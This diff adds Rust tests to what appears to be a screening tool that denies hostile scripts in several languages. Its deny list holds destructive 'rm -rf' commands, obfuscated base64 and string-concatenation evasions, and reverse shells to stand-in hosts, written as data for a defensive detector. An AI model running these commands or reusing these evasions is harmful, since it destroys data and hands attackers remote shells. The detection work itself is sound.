@@ -242,3 +242,182 @@ fn functions_that_call_each_other_end() {
     let quine = "exec(\"exec('eval(\\\"1\\\")')\")";
     assert!(denied(quine, Language::Python));
 }
+
+#[test]
+fn hostile_scripts_end_on_a_small_stack() {
+    on_small_stack(|| {
+        let languages = [
+            Language::JavaScript,
+            Language::Perl,
+            Language::Ruby,
+            Language::Php,
+            Language::Lua,
+            Language::Awk,
+        ];
+        let pieces = [
+            "(",
+            "[",
+            "{",
+            "f(",
+            "a.",
+            "a.b",
+            "a[",
+            "'",
+            "\"",
+            "`",
+            "`${",
+            "\"#{",
+            "${",
+            "/",
+            "/*",
+            "a=",
+            "a+",
+            "q{",
+            "%x{",
+            "new ",
+            "return ",
+            "system ",
+            "system \"x\",",
+            "=>",
+            "{a:",
+            "import ",
+            "const {",
+            "a=a+a;",
+            "x='a'+",
+            "s/a/b/e ",
+            "|",
+            "\"x\"|getline ",
+            "[[",
+            "--[[",
+            "fork ",
+            "await ",
+            "?",
+            "\\",
+            "a,",
+            "require('",
+        ];
+        for language in languages {
+            for piece in pieces {
+                found(&piece.repeat(4_000 / piece.len()), language);
+            }
+        }
+    });
+}
+
+#[test]
+fn ordinary_scripts_are_not_stopped() {
+    for (language, text) in [
+        (Language::JavaScript, "console.log(process.version)"),
+        (Language::JavaScript, "console.log('rm -rf /')"),
+        (Language::JavaScript, "require('./package.json').version"),
+        (
+            Language::JavaScript,
+            "const m = /rm -rf/.exec(line); console.log(m[0])",
+        ),
+        (
+            Language::JavaScript,
+            "const fs = require('fs'); console.log(fs.readFileSync('a.txt', 'utf8'))",
+        ),
+        (
+            Language::JavaScript,
+            "fetch('https://api.example/x').then(r => r.json()).then(console.log)",
+        ),
+        (Language::JavaScript, "[1,2].map(x => x * 2).join(',')"),
+        (
+            Language::JavaScript,
+            "arr.splice(0, 1); map.delete('a'); set.clear()",
+        ),
+        (Language::Perl, "while (<>) { print if /foo/ }"),
+        (Language::Perl, "s/system/exec/g; print"),
+        (Language::Perl, "print join(',', map { $_ * 2 } @F)"),
+        (Language::Ruby, "puts 1"),
+        (Language::Ruby, "puts [1, 2].map { |x| x + 1 }.inspect"),
+        (Language::Php, "echo phpversion();"),
+        (
+            Language::Php,
+            "file_exists('.env.test.local') || copy('.env.test', '.env.test.local');",
+        ),
+        (Language::Lua, "print(os.date())"),
+        (Language::Awk, "{ sum += $1 } END { print sum }"),
+        (Language::Awk, "$9 != \"\" && n < 10 {print; n++}"),
+    ] {
+        assert!(
+            !stopped_by(&found(text, language)),
+            "{text} {:?}",
+            found(text, language)
+        );
+    }
+}
+
+#[test]
+fn scripts_that_destroy_are_denied() {
+    for (language, text) in [
+        (
+            Language::JavaScript,
+            "require('child_process').execSync('rm -rf /srv')",
+        ),
+        (
+            Language::JavaScript,
+            "const c = 'child_' + 'process'; require(c)['exec' + 'Sync']('rm -rf /srv')",
+        ),
+        (
+            Language::JavaScript,
+            "import {spawn} from 'node:child_process'; spawn('rm', ['-rf', '/srv'])",
+        ),
+        (
+            Language::JavaScript,
+            "`${require('child_process').execSync('rm -rf /srv')}`",
+        ),
+        (
+            Language::JavaScript,
+            "new Deno.Command('rm', {args: ['-rf', '/srv']}).outputSync()",
+        ),
+        (
+            Language::JavaScript,
+            "eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdybSAtcmYgLycp'))",
+        ),
+        (
+            Language::JavaScript,
+            "const {promisify: p} = require('util'); p(require('child_process').exec)('rm -rf /srv')",
+        ),
+        (Language::Perl, "system('rm', '-rf', '/srv')"),
+        (Language::Perl, "system \"rm -rf /srv\""),
+        (Language::Perl, "my $x = 'rm -rf ' . '/srv'; `$x`"),
+        (Language::Perl, "qx{rm -rf /srv}"),
+        (Language::Perl, "open(F, '|rm -rf /srv')"),
+        (
+            Language::Perl,
+            "use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,$a); exec(\"/bin/sh -i\");",
+        ),
+        (Language::Ruby, "system('rm -rf /srv')"),
+        (Language::Ruby, "%x{rm -rf /srv}"),
+        (Language::Ruby, "IO.popen('rm -rf /srv')"),
+        (Language::Ruby, "puts \"#{`rm -rf /srv`}\""),
+        (
+            Language::Ruby,
+            "c=TCPSocket.new('h.example',1);while(l=c.gets);IO.popen(l,'r'){|io|c.print io.read}end",
+        ),
+        (Language::Php, "system('rm -rf /srv');"),
+        (
+            Language::Php,
+            "$s=fsockopen('h.example',1);exec('/bin/sh -i <&3 >&3 2>&3');",
+        ),
+        (
+            Language::Php,
+            "@eval(base64_decode('c3lzdGVtKCdybSAtcmYgL3NydicpOw=='));",
+        ),
+        (Language::Lua, "os.execute('rm -rf /srv')"),
+        (
+            Language::Lua,
+            "local s=require('socket'); local t=s.tcp(); t:connect('h.example',1); os.execute('/bin/sh -i')",
+        ),
+        (Language::Awk, "BEGIN { system(\"rm -rf /srv\") }"),
+        (Language::Awk, "BEGIN { \"rm -rf /srv\" | getline }"),
+        (
+            Language::Awk,
+            "BEGIN{s=\"/inet/tcp/0/203.0.113.7/4444\";while(1){s|&getline c;while((c|getline)>0)print|&s}}",
+        ),
+    ] {
+        assert!(denied(text, language), "{text} {:?}", found(text, language));
+    }
+}
